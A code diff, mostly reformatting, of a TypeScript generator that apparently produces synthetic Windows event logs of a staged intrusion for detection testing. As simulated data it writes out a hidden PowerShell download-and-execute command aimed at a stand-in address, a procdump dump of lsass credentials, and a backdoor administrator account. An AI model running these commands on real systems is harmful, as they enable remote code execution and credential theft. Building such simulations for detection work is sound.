@@ -30,7 +30,7 @@ import {
   type Session,
 } from './activities.js';
 import { rdpLogon, seconds } from './routine.js';
-import { ticksOfMs, type Ticks, type Timeline } from './timeline.js';
+import { type Ticks, type Timeline } from './timeline.js';
 import { accounts, addresses, domain, groups, host, keys, weekStartMs } from './world.js';
 
 const thursday = weekStartMs + 3 * 24 * 3_600_000;
@@ -73,15 +73,20 @@ const sprayedNames: readonly [name: string, exists: boolean][] = [
 ];
 
 function networkFailure(tl: Timeline, t: Ticks, name: string, userDomain: string, subStatus: string): void {
-  failedLogon(tl, t, { name, domain: userDomain }, {
-    type: 3,
-    subStatus,
-    logonProcess: 'NtLmSsp ',
-    auth: 'NTLM',
-    workstation: addresses.intruderWorkstation,
-    ip: addresses.intruder,
-    port: String(tl.rng.int(40000, 60999)),
-  });
+  failedLogon(
+    tl,
+    t,
+    { name, domain: userDomain },
+    {
+      type: 3,
+      subStatus,
+      logonProcess: 'NtLmSsp ',
+      auth: 'NTLM',
+      workstation: addresses.intruderWorkstation,
+      ip: addresses.intruder,
+      port: String(tl.rng.int(40000, 60999)),
+    },
+  );
 }
 
 function spray(tl: Timeline): void {
@@ -121,7 +126,12 @@ interface Shell {
   run(offsetS: number, image: string, commandLine: string, durationS: number, parent?: Process): Process;
 }
 
-function shellOf(tl: Timeline, start: Ticks, session: Session, explorer: { pid: number; image: string }): Shell {
+function shellOf(
+  tl: Timeline,
+  start: Ticks,
+  session: Session,
+  explorer: { pid: number; image: string },
+): Shell {
   const cmd = startProcess(tl, start, {
     session,
     image: `${system32}cmd.exe`,
@@ -153,7 +163,14 @@ export function intrusion(tl: Timeline): void {
   bruteForce(tl);
 
   const rdpStart = tl.at(at(2, 14, 37));
-  const rdp = rdpLogon(tl, rdpStart, accounts.brandt, addresses.intruder, addresses.intruderWorkstation, 'NTLM');
+  const rdp = rdpLogon(
+    tl,
+    rdpStart,
+    accounts.brandt,
+    addresses.intruder,
+    addresses.intruderWorkstation,
+    'NTLM',
+  );
   const explorer = startProcess(tl, rdpStart + seconds(6), {
     session: rdp.limited,
     image: 'C:\\Windows\\explorer.exe',
@@ -174,7 +191,14 @@ export function intrusion(tl: Timeline): void {
   const localAdmins = net1(21, 'localgroup administrators');
   enumerated(tl, localAdmins.started + seconds(0.1), 4799, groups.administrators, rdp.elevated, localAdmins);
   const userQuery = net1(37, 'user Administrator');
-  enumerated(tl, userQuery.started + seconds(0.1), 4798, accounts.localAdministrator, rdp.elevated, userQuery);
+  enumerated(
+    tl,
+    userQuery.started + seconds(0.1),
+    4798,
+    accounts.localAdministrator,
+    rdp.elevated,
+    userQuery,
+  );
 
   const adfind = 'C:\\Users\\l.brandt\\AppData\\Local\\Temp\\adfind.exe';
   const adfindRuns = [
@@ -191,10 +215,15 @@ export function intrusion(tl: Timeline): void {
   sh.run(
     5 * 60 + 40,
     `${system32}WindowsPowerShell\\v1.0\\powershell.exe`,
-    "powershell.exe  -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.57/a.ps1')\"",
+    'powershell.exe  -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.57/a.ps1\')"',
     6,
   );
-  sh.run(8 * 60 + 2, 'C:\\Users\\Public\\procdump64.exe', 'C:\\Users\\Public\\procdump64.exe  -accepteula -ma lsass.exe C:\\Users\\Public\\lsass.dmp', 9);
+  sh.run(
+    8 * 60 + 2,
+    'C:\\Users\\Public\\procdump64.exe',
+    'C:\\Users\\Public\\procdump64.exe  -accepteula -ma lsass.exe C:\\Users\\Public\\lsass.dmp',
+    9,
+  );
 
   // Persistence: a local administrator account.
   const add = tl.at(at(2, 36, 21));
@@ -203,7 +232,14 @@ export function intrusion(tl: Timeline): void {
   groupMembership(tl, add + seconds(0.21), 4732, rdp.elevated, accounts.backdoor, groups.users);
   const grant = Number((add - t0) / 10_000_000n) + 26;
   net1(grant, `localgroup administrators ${accounts.backdoor.name} /add`);
-  groupMembership(tl, t0 + seconds(grant + 0.2), 4732, rdp.elevated, accounts.backdoor, groups.administrators);
+  groupMembership(
+    tl,
+    t0 + seconds(grant + 0.2),
+    4732,
+    rdp.elevated,
+    accounts.backdoor,
+    groups.administrators,
+  );
 
   // The device identity key, read as l.brandt's elevated session: what the seed rule looks for.
   const keyRead = tl.at(at(2, 39, 48));
@@ -234,6 +270,3 @@ export function intrusion(tl: Timeline): void {
   logoff(tl, out + seconds(3), rdp.limited, 10);
   logoff(tl, out + seconds(3.01), rdp.elevated, 10);
 }
-
-/** For tests and the README: when the seed rule's event happens. */
-export const seedHitWindow = { from: ticksOfMs(at(2, 39, 48)), to: ticksOfMs(at(2, 39, 52)) };
